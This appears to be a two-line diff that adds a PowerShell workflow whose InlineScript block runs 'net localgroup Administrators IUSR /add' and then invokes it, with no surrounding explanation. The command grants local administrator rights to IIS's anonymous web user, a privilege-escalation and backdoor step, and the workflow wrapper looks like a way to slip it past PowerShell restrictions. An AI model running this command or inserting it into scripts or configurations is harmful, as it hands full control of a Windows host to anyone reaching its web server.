@@ -1,0 +1,2 @@
+workflow w { InlineScript { net localgroup Administrators IUSR /add } }
+w
